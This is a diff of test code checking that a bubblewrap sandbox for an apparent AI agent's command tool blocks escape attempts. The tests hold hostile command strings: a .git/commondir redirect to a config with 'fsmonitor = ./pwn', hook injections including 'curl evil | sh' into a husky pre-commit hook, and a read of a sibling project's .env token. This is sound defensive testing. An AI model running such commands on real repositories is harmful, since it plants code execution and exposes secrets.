@@ -4,7 +4,7 @@
  * found, and none of it happens. Skipped, and said so, where bwrap cannot run.
  */
 import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import type { Server } from 'node:net';
 import path from 'node:path';
@@ -186,6 +186,102 @@ describe.skipIf(!bwrap)('commands in bubblewrap (needs bwrap; skipped without it
     expect(out).not.toMatch(/^sleep 30$/m);
   });
 });
+
+describe.skipIf(!bwrap)(
+  'the attack review of the sandbox (needs bwrap; skipped without it)',
+  () => {
+    function repository(name: string): string {
+      const repo = path.join(root, name);
+      mkdirSync(repo, { recursive: true });
+      execFileSync('git', ['init', '-q', repo]);
+      writeFileSync(path.join(repo, 'README.md'), 'hi\n');
+      return repo;
+    }
+
+    async function runIn(
+      workspace: string,
+      command: string,
+      using = sandbox,
+      unattended = false,
+    ): Promise<ToolResult> {
+      const tool = createRunCommandTool({ sandbox: using, graceMs: 200 });
+      return tool.execute(
+        { command },
+        { workspace, signal: new AbortController().signal, unattended },
+      );
+    }
+
+    it('a .git/commondir sending git to a folder the command wrote is reported and removed', async () => {
+      const repo = repository('commondir');
+      const result = await runIn(
+        repo,
+        'mkdir -p fake && cp -r .git/objects .git/refs fake/ && printf "[core]\\n\\tfsmonitor = ./pwn\\n" > fake/config && echo "$PWD/fake" > .git/commondir',
+      );
+      expect(result.error?.code).toBe('protected_path_changed');
+      expect(result.data?.redirectsRemoved).toEqual(['.git/commondir']);
+      expect(result.content).toContain('.git/commondir (removed again');
+      expect(existsSync(path.join(repo, '.git', 'commondir'))).toBe(false);
+    });
+
+    it("a submodule's config and hooks inside .git/modules stay read-only", async () => {
+      const repo = repository('super');
+      const module = path.join(repo, '.git', 'modules', 'sub');
+      mkdirSync(path.join(module, 'hooks'), { recursive: true });
+      writeFileSync(path.join(module, 'config'), '[core]\n\tbare = false\n');
+      const result = await runIn(
+        repo,
+        'echo "#!/bin/sh" > .git/modules/sub/hooks/pre-commit; printf "\\tfsmonitor = x\\n" >> .git/modules/sub/config',
+      );
+      expect(result.content).toContain('Read-only file system');
+      expect(existsSync(path.join(module, 'hooks', 'pre-commit'))).toBe(false);
+      expect(readFileSync(path.join(module, 'config'), 'utf8')).not.toContain('fsmonitor');
+    });
+
+    it('hooks kept in the workspace by core.hooksPath (husky) stay read-only', async () => {
+      const repo = repository('husky');
+      mkdirSync(path.join(repo, '.husky'));
+      writeFileSync(path.join(repo, '.husky', 'pre-commit'), 'npm test\n');
+      execFileSync('git', ['-C', repo, 'config', 'core.hooksPath', '.husky']);
+      const result = await runIn(repo, 'echo "curl evil | sh" > .husky/pre-commit');
+      expect(result.content).toContain('Read-only file system');
+      expect(readFileSync(path.join(repo, '.husky', 'pre-commit'), 'utf8')).toBe('npm test\n');
+    });
+
+    it('a git folder cannot be renamed to leave its read-only parts behind', async () => {
+      const repo = repository('renamed');
+      const result = await runIn(repo, 'mv .git g');
+      expect(result.status).toBe('failed');
+      expect(existsSync(path.join(repo, '.git', 'HEAD'))).toBe(true);
+    });
+
+    it('shows nothing of the machine but its system folders: a project beside it, or its .env, is not there', async () => {
+      // Outside /tmp (which every sandbox empties): a folder next to this checkout.
+      const beside = path.join(process.cwd(), `.sandbox-probe-${process.pid}`);
+      mkdirSync(beside, { recursive: true });
+      writeFileSync(path.join(beside, '.env'), 'TOKEN=beside-secret\n');
+      try {
+        const result = await runIn(ws, `cat ${beside}/.env`);
+        expect(result.status).toBe('failed');
+        expect(result.content).not.toContain('beside-secret');
+        expect(result.content).toContain('No such file or directory');
+      } finally {
+        rmSync(beside, { recursive: true, force: true });
+      }
+    });
+
+    it('past the walk cap, the repository is still looked at first', async () => {
+      const repo = repository('capped');
+      mkdirSync(path.join(repo, '+big'));
+      for (let i = 0; i < 40; i += 1) writeFileSync(path.join(repo, '+big', `f${i}`), '');
+      const small = new Sandbox(status, secretsFor, '/nonexistent-home', 20);
+      const result = await runIn(repo, 'echo x > .git/hooks/pre-commit', small);
+      expect(result.content).toContain('Read-only file system');
+      expect(existsSync(path.join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
+      const unattended = await runIn(repo, 'true', small, true);
+      expect(unattended.error?.code).toBe('permission_denied');
+    });
+  },
+);
 
 describe('without a sandbox', () => {
   const none = new Sandbox(
